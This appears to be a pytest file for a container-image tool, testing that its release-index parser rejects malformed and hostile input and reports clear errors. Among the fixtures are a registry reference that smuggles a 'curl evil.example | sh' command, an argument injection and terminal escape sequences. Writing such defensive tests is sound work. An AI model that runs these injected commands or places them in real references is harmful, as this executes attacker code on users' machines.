"""Release index: schema validation with errors that name file, field and fix; canonical round trip."""

from __future__ import annotations

import copy
import hashlib
import json
from pathlib import Path
from typing import Any

import pytest

from imagesmith.errors import ConfigError
from imagesmith.index import SCHEMA, dump_index, load_index, parse_index, save_index
from tests.localhttp import QuietHTTPServer

D1 = "sha256:" + "a" * 64
D2 = "sha256:" + "b" * 64
D3 = "sha256:" + "c" * 64


def image(**over: Any) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "tag": "2.5.1-cu124-py3.11",
        "matrix": "h100",
        "cell": "torch2.5.1-cu124-py3.11-ubuntu22.04-runtime",
        "digest": D1,
        "registries": [
            {
                "name": "ghcr",
                "kind": "ghcr",
                "reference": "ghcr.io/acme/pytorch:2.5.1-cu124-py3.11",
                "digest": D1,
            },
            {
                "name": "acr",
                "reference": "registry.cn-hangzhou.aliyuncs.com/acme/pytorch:2.5.1-cu124-py3.11",
                "digest": D1,
            },
        ],
        "torch": "2.5.1",
        "torchvision": "0.20.1",
        "cuda": "12.4",
        "python": "3.11",
        "min_driver": {"full": "550.54.14", "minor": "525.60.13"},
        "arch": ["5.0", "8.0", "8.6", "9.0"],
        "shm": {"size": "16g", "ipc_host": False},
        "validated_on": [
            {
                "gpu": "NVIDIA H100 80GB HBM3",
                "count": 8,
                "driver": "550.90.07",
                "date": "2026-11-28",
                "report_digest": D2,
            }
        ],
        "fingerprint": "f" * 16,
        "released": "2026-11-28T03:00:00Z",
    }
    doc.update(over)
    if "digest" in over and "registries" not in over:  # another image: its copies carry its digest
        for copy_ in doc["registries"]:
            copy_["digest"] = over["digest"]
    return doc


def index_doc(*images: dict[str, Any]) -> dict[str, Any]:
    return {"schema": SCHEMA, "generated": "2026-11-28T03:00:00Z", "images": list(images)}


def test_round_trip_is_canonical() -> None:
    text = json.dumps(index_doc(image(tag="b"), image(tag="a")))
    idx = parse_index(text, source="idx.json")
    assert [i.tag for i in idx.images] == ["b", "a"]
    out = dump_index(idx)
    assert [i["tag"] for i in json.loads(out)["images"]] == ["a", "b"]
    assert dump_index(parse_index(out, source="x")) == out
    img = idx.by_tag("a")
    assert img is not None
    assert img.registries[1].host == "registry.cn-hangzhou.aliyuncs.com"
    assert img.registries[1].kind == "generic"  # not given: generic
    assert json.loads(out)["images"][0]["registries"][1]["kind"] == "generic"
    assert img.registries[0].pinned == f"ghcr.io/acme/pytorch@{D1}"
    assert img.registries[0].kind == "ghcr"
    assert parse_index(out, source="x").images[0].registries[0].kind == "ghcr"
    assert img.shm.size == "16g"
    assert img.validated_on[0].count == 8


def test_registry_with_port_pins_correctly() -> None:
    regs = [{"name": "local", "reference": "127.0.0.1:5000/acme/pytorch:t1", "digest": D1}]
    idx = parse_index(json.dumps(index_doc(image(registries=regs))), source="i")
    assert idx.images[0].registries[0].pinned == f"127.0.0.1:5000/acme/pytorch@{D1}"
    assert idx.images[0].registries[0].host == "127.0.0.1:5000"


def _bad(mutate: Any) -> str:
    doc = index_doc(image())
    mutate(doc)
    with pytest.raises(ConfigError) as err:
        parse_index(json.dumps(doc), source="/srv/index.json")
    return str(err.value)


@pytest.mark.parametrize(
    ("mutate", "expect"),
    [
        (lambda d: d["images"][0].pop("cuda"), "images[0].cuda: missing"),
        (
            lambda d: d["images"][0].update(digest="sha256:xyz"),
            "images[0].digest: 'sha256:xyz' is not a digest",
        ),
        (lambda d: d["images"][0]["min_driver"].update(full="latest"), "images[0].min_driver.full"),
        (lambda d: d["images"][0].update(colour="red"), "images[0].colour: unknown field"),
        (lambda d: d["images"][0]["registries"][1].update(digest=D2), "images[0].registries[1].digest"),
        (lambda d: d["images"][0].update(arch=["sm_90"]), "images[0].arch[0]"),
        (lambda d: d["images"][0].update(validated_on=[]), "images[0].validated_on: is empty"),
        (lambda d: d["images"][0]["validated_on"][0].update(count=0), "images[0].validated_on[0].count"),
        (lambda d: d["images"].append(copy.deepcopy(d["images"][0])), "listed more than once"),
        (lambda d: d.update(schema="v0"), "schema:"),
        (lambda d: d["images"][0]["registries"][0].update(reference="pytorch"), "registries[0].reference"),
        (lambda d: d["images"][0]["shm"].update(size="lots"), "images[0].shm.size"),
        # a fleet baseline validation compares hosts against: never NaN, infinite, zero or negative
        (
            lambda d: d["images"][0]["validated_on"][0].update(figures={"hbm_copy_gbps": float("nan")}),
            "images[0].validated_on[0].figures.hbm_copy_gbps: nan is not a measured figure",
        ),
        (
            lambda d: d["images"][0]["validated_on"][0].update(figures={"matmul_tflops": float("inf")}),
            "figures.matmul_tflops: inf is not a measured figure",
        ),
        (
            lambda d: d["images"][0]["validated_on"][0].update(figures={"matmul_tflops": -3.0}),
            "figures.matmul_tflops: -3.0 is not a measured figure",
        ),
        (
            lambda d: d["images"][0]["validated_on"][0].update(count=10**30),
            "images[0].validated_on[0].count: 1000000000000000000000000000000 GPUs in one host",
        ),
    ],
)
def test_bad_index_names_source_and_field(mutate: Any, expect: str) -> None:
    msg = _bad(mutate)
    assert msg.startswith("release index /srv/index.json: ")
    assert expect in msg
    assert "fix:" in msg


@pytest.mark.parametrize(
    "reference",
    [
        "ghcr.io/acme/x;curl${IFS}evil.example|sh:t",  # pasted from pick's `docker pull`, a shell runs it
        "ghcr.io/acme/../x:t",
        "ghcr.io//x:t",
        "ghcr.io/acme/x y:t",
        "ghcr.io/\u0430cme/x:t",  # a Cyrillic a
        "ghcr.io/acme/X:t",
        "ghcr.io/acme/x:-t",
        "-oProxyCommand=x/y:t",  # an option to the program it is passed to
        "ghcr.io:99999/x:t",
        f"ghcr.io/acme/x:t@sha256:{'0' * 64}",  # a second digest, silently dropped
    ],
)
def test_a_copy_reference_that_is_no_registry_reference_is_refused(reference: str) -> None:
    """main took any text with a '/' and a ':' as a copy's reference: pick printed `docker pull <it>@sha256:…`
    (and `--pull` passed it to docker) for a reference the registries.toml grammar never produces."""
    msg = _bad(lambda d: d["images"][0]["registries"][0].update(reference=reference))
    assert msg.startswith(
        f"release index /srv/index.json: images[0].registries[0].reference: {reference!r} is not a "
        "reference host[:port]/repository:tag"
    )


@pytest.mark.parametrize(
    ("where", "value", "char"),
    [
        ("images[0].validated_on[0].gpu", "NVIDIA H100\x1b[2J", "U+001B"),  # clears the renter's screen
        ("images[0].matrix", "h100\x1b]0;title\x07", "U+001B"),
        ("images[0].registries[0].name", "ghcr\u202e", "U+202E"),  # prints the rest of the line reversed
        ("images[0].fingerprint", "ab\u200bcd", "U+200B"),
        ("images[0].registries[0].kind", "ghcr\n", "U+000A"),
    ],
)
def test_an_index_string_with_a_control_character_is_refused(where: str, value: str, char: str) -> None:
    """main printed an index's strings (GPU names, matrix, registry names) as they came: a terminal escape in
    one ran on the renter's terminal when pick or index listed it."""

    def put(doc: dict[str, Any]) -> None:
        *path, last = where.replace("]", "").replace("[", ".").split(".")
        node: Any = doc
        for part in path:
            node = node[int(part)] if part.isdigit() else node[part]
        node[last] = value

    msg = _bad(put)
    assert msg.startswith(
        f"release index /srv/index.json: {where}: {value[:80]!r} holds the control character {char}"
    )
    assert "regenerate it with imagesmith release" in msg


@pytest.mark.parametrize(
    ("field", "value", "said"),
    [
        ("torch", "2.99.0", "torch 2.99.0, not 2.5.1"),
        ("min_driver", {"full": "450.80.02", "minor": "450.80.02"}, "min_driver 450.80.02 (minor 450.80.02)"),
        ("arch", ["5.0"], "arch 5.0, not 5.0,8.0,8.6,9.0"),
        ("shm", {"ipc_host": True}, "shm size default, ipc_host true, not size 16g, ipc_host false"),
    ],
)
def test_two_entries_of_one_digest_that_disagree_on_its_content_are_refused(
    field: str, value: Any, said: str
) -> None:
    """main read two tags of one digest whose fields disagree (torch 2.5.1 here, 2.99.0 there): one image
    has one config, and pick chose those same bytes by the wilder entry's claims."""
    msg = _bad(lambda d: d["images"].append(image(tag="zz", **{field: value})))
    assert msg.startswith(
        f"release index /srv/index.json: images[1].{field}: zz is the image {D1} as 2.5.1-cu124-py3.11 "
        f"(images[0]) is, but says {said}"
    )
    assert "regenerate the index with imagesmith release" in msg
    # two tags of one digest that agree are read (a tag whose entry differs only in what release decides)
    doc = index_doc(image(), image(tag="zz", released="2026-11-29"))
    assert [i.tag for i in parse_index(json.dumps(doc), source="i").images] == ["2.5.1-cu124-py3.11", "zz"]


@pytest.mark.parametrize("expires", ["2099-02-30T00:00:00Z", "2099-12-31T24:00:00Z", "2099-13-01T00:00:00Z"])
def test_an_expiry_that_is_no_date_is_refused_as_such_not_called_expired(expires: str) -> None:
    """main read an expiry that fits the pattern but is no time (30 February) and pick then said "the index
    expired on 2099-02-30T00:00:00Z", sending the renter to the publisher's nightly."""
    msg = _bad(lambda d: d.update(serial=3, expires=expires))
    assert msg.startswith(f"release index /srv/index.json: expires: {expires!r} is no date")


def test_not_json() -> None:
    with pytest.raises(ConfigError, match=r"idx.json: not valid JSON"):
        parse_index("{nope", source="idx.json")


def test_load_missing_file(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="no such file"):
        load_index(tmp_path / "absent.json")


def test_save_then_load_and_merge(tmp_path: Path) -> None:
    idx = parse_index(json.dumps(index_doc(image(tag="old"), image(tag="keep"))), source="i")
    new = parse_index(
        json.dumps(index_doc(image(tag="old", torch="2.5.0", digest=D3), image(tag="new"))), source="n"
    )
    merged = idx.merged(new.images, generated="2026-11-29T00:00:00Z")
    path = tmp_path / "sub" / "index.json"
    save_index(merged, path)
    again = load_index(path)
    assert [i.tag for i in again.images] == ["keep", "new", "old"]
    old = again.by_tag("old")
    assert old is not None
    assert old.torch == "2.5.0"
    assert list(path.parent.iterdir()) == [path]


def test_cli_index_lists_and_checks(run_cli: Any, tmp_path: Path) -> None:
    path = tmp_path / "index.json"
    path.write_text(json.dumps(index_doc(image(tag="t1"), image(tag="t2", torch="2.5.0", digest=D3))))
    res = run_cli("index", str(path), "--no-verify")  # an unsigned index (issue 25: only with --no-verify)
    assert res.exit_code == 0, res.stderr
    assert res.stderr.startswith("warning: --no-verify: the release index")
    assert res.stdout.splitlines()[0].endswith("2 image(s), generated 2026-11-28T03:00:00Z")
    assert (
        res.stdout.splitlines()[1]
        == "  registries (the publisher's hosts): not listed (an index written before issue 17)"
    )
    assert "  t2  torch 2.5.0 CUDA 12.4 py3.11  driver >= 550.54.14 (minor 525.60.13)" in res.stdout
    res = run_cli("index", str(path), "--json", "--no-verify")
    assert json.loads(res.stdout)["images"][1]["tag"] == "t2"
    path.write_text(json.dumps(index_doc(image(tag="t1", cuda="twelve"))))
    res = run_cli("index", str(path), "--no-verify")
    assert res.exit_code == ConfigError.exit_code
    assert "images[0].cuda: 'twelve' is not a CUDA version" in res.stderr


# -- hostile indexes on a new rental: no traceback, nothing huge read into memory ----------------------------
class _Stream:
    def __init__(self, body: bytes) -> None:
        self.body = body
        self.read = 0

    def iter_content(self, size: int) -> Any:
        for i in range(0, len(self.body), size):
            self.read += len(self.body[i : i + size])
            yield self.body[i : i + size]

    def __enter__(self) -> _Stream:
        return self

    def __exit__(self, *args: object) -> None:
        return None


class _ArtifactRegistry:
    """A registry serving one artifact manifest *doc* and blobs by digest (as a hostile registry may)."""

    name = "hostile"
    host = "hostile.example"

    def __init__(self, doc: Any, blobs: dict[str, bytes]) -> None:
        self.doc, self.blobs = doc, blobs
        self.streams: list[Any] = []

    def get_manifest(self, repo: str, ref: str) -> Any:
        from imagesmith.registry import OCI_MANIFEST, ManifestData

        body = json.dumps(self.doc).encode()
        return ManifestData(
            body=body, media_type=OCI_MANIFEST, digest="sha256:" + hashlib.sha256(body).hexdigest()
        )

    def get_blob(self, repo: str, digest: str) -> _Stream:
        stream = _Stream(self.blobs[digest])
        self.streams.append(stream)
        return stream


def _layer(body: bytes, **over: Any) -> dict[str, Any]:
    from imagesmith.index import INDEX_MEDIA_TYPE

    return {
        "mediaType": INDEX_MEDIA_TYPE,
        "digest": "sha256:" + hashlib.sha256(body).hexdigest(),
        "size": len(body),
    } | over


@pytest.mark.parametrize(
    ("layers", "expect"),
    [
        ("abc", "is not an imagesmith release index artifact"),
        ([1, 2], "is not an imagesmith release index artifact"),
        ([_layer(b"{}", digest=None)], "digest is not a sha256 digest (None)"),
        ([_layer(b"{}", digest=5)], "digest is not a sha256 digest (5)"),
        ([_layer(b"{}", size="2")], "size is '2', not a byte count"),
        ([_layer(b"{}", size=10**12)], "size is 1000000000000, not a byte count up to"),
        ([_layer(b"{}", size=1)], "arrived with a different size"),
    ],
)
def test_a_hostile_index_artifact_is_an_error_naming_the_registry(layers: Any, expect: str) -> None:
    from imagesmith.errors import RegistryError
    from imagesmith.index import read_signed_index_artifact

    client = _ArtifactRegistry({"schemaVersion": 2, "layers": layers}, {_layer(b"{}")["digest"]: b"{}"})
    with pytest.raises(RegistryError) as info:
        read_signed_index_artifact(client, "acme/torch")
    assert expect in info.value.message
    assert "registry hostile: acme/torch:release-index" in info.value.message
    assert info.value.hint


def test_an_index_blob_larger_than_it_says_is_not_read_past_its_size() -> None:
    from imagesmith.errors import RegistryError
    from imagesmith.index import read_signed_index_artifact

    small, big = b"{}", b"x" * (4 << 20)
    client = _ArtifactRegistry({"layers": [_layer(small)]}, {_layer(small)["digest"]: big})
    with pytest.raises(RegistryError, match="different size"):
        read_signed_index_artifact(client, "acme/torch")
    assert client.streams[0].read < 1 << 17  # one 64 KiB piece past the size at most, never the 4 MiB


def test_a_huge_or_deeply_nested_index_file_is_refused_unread(tmp_path: Path) -> None:
    from imagesmith.index import MAX_INDEX_BYTES

    huge = tmp_path / "huge.json"
    with huge.open("wb") as f:
        f.truncate(MAX_INDEX_BYTES + 1)  # sparse: no disk used
    with pytest.raises(ConfigError, match="more than the 32 MiB an index may have") as info:
        load_index(huge)
    assert str(huge) in info.value.message
    deep = tmp_path / "deep.json"
    deep.write_text("[" * 200_000 + "]" * 200_000)
    with pytest.raises(ConfigError, match="nested deeper"):
        load_index(deep)


class _Server:
    """A local HTTP server: GET answers *status* with *size* bytes of JSON-ish filler (streamed) or *body*."""

    def __init__(self, status: int, *, size: int = 0, body: bytes = b"") -> None:
        import http.server
        import threading

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args: object) -> None:
                return None

            def do_GET(self) -> None:
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(size or len(body)))
                self.end_headers()
                try:
                    if size:
                        piece = b" " * (1 << 20)
                        for _ in range(size >> 20):
                            self.wfile.write(piece)
                    else:
                        self.wfile.write(body)
                except OSError:  # the client stopped reading: what the test wants
                    pass

            do_HEAD = do_GET

        self.server = QuietHTTPServer(("127.0.0.1", 0), Handler)
        self.addr = f"127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_a_huge_index_download_is_refused_without_reading_it_all(tmp_path: Path, monkeypatch: Any) -> None:
    from imagesmith.pick import fetch_index

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    server = _Server(200, size=1 << 30)  # a GiB: read to the limit, not further
    try:
        with pytest.raises(ConfigError, match="more than 32 MiB") as info:
            fetch_index(f"http://{server.addr}/index.json", insecure=True)
        assert info.value.hint
    finally:
        server.close()


def test_an_oci_index_that_is_not_there_says_which_source_and_what_to_check(
    tmp_path: Path, monkeypatch: Any
) -> None:
    from imagesmith.errors import ManifestUnknownError
    from imagesmith.pick import fetch_index

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    body = b'{"errors":[{"code":"MANIFEST_UNKNOWN","message":"manifest unknown"}]}'
    server = _Server(404, body=body)
    try:
        source = f"oci+http://{server.addr}/acme/torch:release-index"
        with pytest.raises(ManifestUnknownError) as info:
            fetch_index(source, insecure=True)
        assert info.value.message.startswith(f"--index {source}: ")
        assert info.value.hint is not None
        assert "release-index" in info.value.hint
    finally:
        server.close()
